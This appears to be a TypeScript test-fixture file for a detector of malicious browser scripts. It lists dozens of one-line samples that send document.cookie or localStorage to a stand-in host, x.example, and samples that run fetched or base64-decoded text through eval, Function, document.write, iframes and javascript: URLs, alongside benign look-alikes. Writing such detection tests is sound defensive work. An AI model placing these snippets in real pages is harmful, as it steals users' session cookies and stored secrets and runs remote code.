import { inScript, type Case } from './pack-of.ts'

const theft = (name: string, ...lines: string[]): Case =>
  inScript('javascript-sends-data', name, `const u = "https://x.example/?c="`, ...lines)
const run = (name: string, ...lines: string[]): Case =>
  inScript('javascript-code-from-data', name, `const u = "https://x.example/a"`, ...lines)
const honest = (name: string, ...lines: string[]): Case => inScript('', name, ...lines)

/** Cookies and storage that leave, and text that runs, in everyday spellings. */
export const theftsInScripts: Case[] = [
  theft(
    'the storage of the window, under a name',
    'const s = window.localStorage',
    'fetch("https://x.example", { method: "POST", body: JSON.stringify(s) })',
  ),
  theft('the storage under a name', 'const s = localStorage', 'navigator.sendBeacon(u, JSON.stringify({ ...s }))'),
  theft('the storage of globalThis', 'fetch(u, { method: "POST", body: JSON.stringify(globalThis.sessionStorage) })'),
  theft('the storage of self, as a part', 'fetch(u, { body: JSON.stringify({ all: self.localStorage }) })'),
  theft('the storage as a part of the window', 'const { localStorage: s } = window', 'fetch(u + JSON.stringify(s))'),
  theft(
    'the storage, item by item',
    'const o = {}',
    'for (const k in localStorage) o[k] = localStorage[k]',
    'fetch(u, { method: "POST", body: JSON.stringify(o) })',
  ),
  theft(
    'the storage, item by item into a list',
    'const rows = []',
    'for (const k of Object.keys(localStorage)) rows.push(localStorage.getItem(k))',
    'const body = rows.join()',
    'fetch(u, { method: "POST", body })',
  ),
  theft('a copy of the storage', 'const o = {}', 'Object.assign(o, localStorage)', 'fetch(u + JSON.stringify(o))'),
  theft('the cookie as a part of the document', 'const { cookie } = document', 'fetch(u + cookie)'),
  theft('the cookie under another name', 'const { cookie: c } = document', 'fetch(u, { body: c })'),
  theft('the cookie by a name that is put together', 'fetch(u + document["coo" + "kie"])'),
  theft('the cookie in a request', 'fetch(new Request(u, { method: "POST", body: document.cookie }))'),
  theft('the cookie in a named request', 'const r = new Request(u, { body: document.cookie })', 'fetch(r)'),
  theft('the cookie in an address', 'location.assign(u + document.cookie)'),
  theft('the cookie in a link', 'const a = document.createElement("a")', 'a.href = u + document.cookie', 'a.click()'),
  theft(
    'the cookie in an attribute',
    'const img = document.createElement("img")',
    'img.setAttribute("src", u + document.cookie)',
  ),
  theft('the cookie in a page', `document.body.innerHTML = '<img src="' + u + document.cookie + '">'`),
  theft('the cookie in a page, added', 'document.body.innerHTML += `<img src="${u}${document.cookie}">`'),
  theft(
    'the cookie in an added page',
    'document.body.insertAdjacentHTML("beforeend", `<img src="${u}${document.cookie}">`)',
  ),
  run('fetched text, handed to eval', 'fetch(u).then((r) => r.text()).then(eval)'),
  run('fetched text, handed to Function', 'fetch(u).then((r) => r.text()).then(window.Function).then((f) => f())'),
  run('a page that is written', 'document.write("<script>" + atob(x) + "</script>")'),
  run('a fetched page that is written', 'fetch(u).then((r) => r.text()).then((t) => document.write(t))'),
  run(
    'a frame of decoded text',
    'const f = document.createElement("iframe")',
    'f.srcdoc = `<script>${atob(x)}</script>`',
  ),
  run('a frame of decoded text, by an attribute', 'frame.setAttribute("srcdoc", atob(x))'),
  run('a fragment', 'document.body.append(document.createRange().createContextualFragment("<script>" + atob(x)))'),
  run('a script that gets a text', 'const s = document.createElement("script")', 's.append(atob(x))'),
  run(
    'a script that gets a text node',
    'const s = document.createElement("script")',
    's.appendChild(document.createTextNode(atob(x)))',
  ),
  run('a script as an address', 'location.href = "javascript:" + atob(x)'),
  run('a script as the address of a window', 'window.open("javascript:" + atob(x))'),
  run('a handler as an attribute', 'button.setAttribute("onclick", atob(x))'),
  run('Function by reflection', 'Reflect.construct(Function, [atob(x)])()'),
  run('eval by reflection', 'Reflect.apply(eval, null, [atob(x)])'),
]

/** Honest scripts that resemble them. */
export const honestScripts: Case[] = [
  honest(
    'own settings for the own server',
    'const settings = JSON.parse(localStorage.getItem("inert.settings") ?? "{}")',
    'fetch("/inert/settings", { method: "POST", body: JSON.stringify(settings) })',
    'const store = window.localStorage',
    'api.fetchApi("/inert/settings", { method: "POST", body: store.getItem("inert.settings") })',
  ),
  honest(
    'a setting for a service',
    'const store = window.localStorage',
    'const { getItem } = store',
    'fetch("https://api.service.example/v1", { headers: { Authorization: store.getItem("inert.key") } })',
    'fetch("https://api.service.example/v1", { headers: { Authorization: store["inert.key"] } })',
  ),
  honest(
    'old settings that are removed',
    'for (const k in localStorage) if (k.startsWith("inert.")) localStorage.removeItem(k)',
    'fetch("https://api.service.example/models")',
  ),
  honest(
    'the theme of a cookie',
    'const theme = /theme=(\\w+)/.exec(document.cookie)?.[1] ?? "dark"',
    'document.body.classList.add(theme)',
    'const { cookie } = document',
    'if (cookie.includes("inert=1")) show()',
    'img.src = "https://cdn.example/logo.png"',
  ),
  honest(
    'pictures of decoded data',
    'img.src = "data:image/svg+xml;utf8," + atob(x)',
    'img.setAttribute("src", "data:image/png;base64," + btoa(atob(x)))',
    'div.innerHTML = `<img src="data:image/png;base64,${x}">`',
    'a.href = URL.createObjectURL(new Blob([atob(x)]))',
  ),
  honest(
    'help of the own server in a frame',
    'const html = await (await fetch("/extensions/inert/help.html")).text()',
    'frame.srcdoc = html',
    'const w = open("", "help"); w.document.write(html)',
    'w.document.write("<h1>Help</h1>")',
  ),
  honest(
    'calls of functions by reflection and promises',
    'Reflect.construct(Map, [[["a", 1]]])',
    'Reflect.apply(draw, this, [ctx])',
    'fetch("/x").then((r) => r.json()).then(show)',
    'list.map(String).map(Number)',
    'a.href = "javascript:void(0)"',
  ),
]
